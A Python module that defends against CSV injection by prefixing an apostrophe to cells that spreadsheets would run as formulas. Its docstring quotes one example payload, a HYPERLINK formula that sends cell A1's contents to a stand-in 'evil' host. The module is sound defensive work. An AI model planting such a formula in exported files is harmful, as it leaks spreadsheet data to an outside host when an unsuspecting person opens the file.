"""Spreadsheet-safe CSV cells, shared by every CSV the product writes (export manifest, audit log).

A cell starting with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is run as a formula by
Excel, LibreOffice and Google Sheets ("CSV injection", OWASP): a subject or an anonymous sign-in
name such as ``=HYPERLINK("http://evil/?"&A1, "open")`` would otherwise execute on the
investigator's machine when the archive log or a manifest is opened. The full-width forms are
included because some locales of Excel accept them as formula starters too. Such a cell gets a
leading ``'``, which spreadsheets hide and treat as "this is text"; the value stays readable.
"""

from __future__ import annotations

FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")


def neutralise(value: object) -> object:
    """``value`` as plain text when a spreadsheet would evaluate it; anything else unchanged."""
    if isinstance(value, str) and value.startswith(FORMULA_START):
        return "'" + value
    return value
